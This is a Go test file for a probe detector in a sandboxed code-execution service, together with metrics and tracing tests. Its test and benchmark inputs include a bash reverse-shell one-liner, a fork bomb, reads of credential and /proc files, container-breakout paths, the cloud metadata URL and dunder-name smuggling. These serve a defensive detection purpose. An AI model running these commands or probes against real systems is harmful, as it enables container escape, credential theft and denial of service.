package monitor

import (
	"context"
	"strings"
	"testing"

	"github.com/prometheus/client_golang/prometheus/testutil"

	"safe-code-runner/internal/config"
)

func TestAnalyzeCode(t *testing.T) {
	d := NewProbeDetector()

	tests := []struct {
		name        string
		code        string
		wantPattern string
		wantLine    int
	}{
		{"proc self", `path = "/proc/self/environ"`, "proc_access", 1},
		{"passwd", "x = 1\nname = '/etc/passwd'", "sensitive_file", 2},
		{"cgroup", `hook = "/sys/fs/cgroup/release_agent"`, "container_breakout", 1},
		{"docker socket", `s = "/var/run/docker.sock"`, "host_socket", 1},
		{"metadata", `url = "http://169.254.169.254/latest/"`, "metadata_service", 1},
		{"dunder concat", `name = "__" + "import" + "__"`, "name_smuggling", 1},
		{"hex escape", `name = "\x5f\x5fbuiltins\x5f\x5f"`, "name_smuggling", 1},
		{"chr underscore", `u = chr(95) * 2`, "name_smuggling", 1},
		{"base64 blob", `blob = "` + strings.Repeat("QUJD", 25) + `"`, "encoded_payload", 1},
		{"fork bomb", `cmd = ":(){ :|:& };:"`, "fork_bomb", 1},
		{"reverse shell", `cmd = "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"`, "reverse_shell", 1},
		{"miner", `pool = "stratum+tcp://pool.example"`, "crypto_miner", 1},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			dets := d.AnalyzeCode(tt.code)
			for _, det := range dets {
				if det.Pattern == tt.wantPattern {
					if det.Line != tt.wantLine {
						t.Errorf("line = %d, want %d", det.Line, tt.wantLine)
					}
					return
				}
			}
			t.Errorf("pattern %q not found in %v", tt.wantPattern, dets)
		})
	}
}

func TestAnalyzeCodeClean(t *testing.T) {
	d := NewProbeDetector()
	clean := []string{
		`print("Hello, World!")`,
		"def add(a, b):\n    return a + b\nprint(add(1, 2))",
		"import math\nprint(math.sqrt(16))",
		`s = "__init__ is a method name"`,
	}
	for _, code := range clean {
		if dets := d.AnalyzeCode(code); len(dets) != 0 {
			t.Errorf("AnalyzeCode(%q) = %v, want none", code, dets)
		}
	}
}

func TestAnalyzeOutput(t *testing.T) {
	d := NewProbeDetector()

	tests := []struct {
		name         string
		output       string
		wantSeverity string
	}{
		{"passwd", "root:x:0:0:root:/root:/bin/bash", "critical"},
		{"kernel", "Linux version 6.1.0", "high"},
		{"socket", "found /run/containerd/containerd.sock", "critical"},
		{"clean", "Hello, World!", ""},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			dets := d.AnalyzeOutput(tt.output)
			if tt.wantSeverity == "" {
				if len(dets) != 0 {
					t.Errorf("got %v, want none", dets)
				}
				return
			}
			if len(dets) == 0 || dets[0].Severity != tt.wantSeverity {
				t.Errorf("got %v, want severity %s", dets, tt.wantSeverity)
			}
		})
	}
}

func TestSeverityString(t *testing.T) {
	if got := Severity(42).String(); got != "unknown" {
		t.Errorf("String() = %q", got)
	}
}

func TestMetricsRecord(t *testing.T) {
	m := NewMetrics()

	m.RecordExecution("success", "process", 0.2, true)
	m.RecordExecution("validation_rejected", "process", 0, false)
	m.RecordViolation(false)
	m.RecordViolation(true)
	m.RecordRateLimited("execution")
	m.RecordStoreError("rate_limit")
	m.RecordProbe("proc_access", "high")

	if got := testutil.ToFloat64(m.ExecutionsTotal.WithLabelValues("success")); got != 1 {
		t.Errorf("executions{success} = %v", got)
	}
	if got := testutil.CollectAndCount(m.ExecutionDuration); got != 1 {
		t.Errorf("duration series = %d, want 1", got)
	}
	if got := testutil.ToFloat64(m.ViolationsRecorded); got != 2 {
		t.Errorf("violations = %v", got)
	}
	if got := testutil.ToFloat64(m.BlocksIssued); got != 1 {
		t.Errorf("blocks = %v", got)
	}
	if got := testutil.ToFloat64(m.RateLimitDenials.WithLabelValues("execution")); got != 1 {
		t.Errorf("rate limited = %v", got)
	}
	if got := testutil.ToFloat64(m.StoreErrors.WithLabelValues("rate_limit")); got != 1 {
		t.Errorf("store errors = %v", got)
	}
}

func TestSetupTracingDisabled(t *testing.T) {
	shutdown, err := SetupTracing(context.Background(), config.TracingConfig{}, "test")
	if err != nil {
		t.Fatal(err)
	}
	if err := shutdown(context.Background()); err != nil {
		t.Fatal(err)
	}
}

func TestStartSpanNoop(t *testing.T) {
	ctx, span := NewTracer().StartSpan(context.Background(), "execute", AttrExecID.String("x"))
	EndSpan(span, nil)
	if SpanFromContext(ctx) != span {
		t.Error("span not stored in context")
	}
}

func BenchmarkProbeDetector(b *testing.B) {
	d := NewProbeDetector()

	codes := []struct {
		name string
		code string
	}{
		{"benign", "print('hello world')"},
		{"suspicious", "print(open('/proc/self/environ').read())"},
		{"complex", `
import math
# looks around the sandbox
paths = ['/proc/self/ns/mnt', '/sys/fs/cgroup/release_agent']
url = 'http://169.254.169.254/latest/meta-data/'
name = '__' + 'class' + '__'
for i in range(10):
    print(math.sqrt(i))
`},
	}

	for _, tc := range codes {
		b.Run(tc.name, func(b *testing.B) {
			for i := 0; i < b.N; i++ {
				d.AnalyzeCode(tc.code)
			}
		})
	}
}
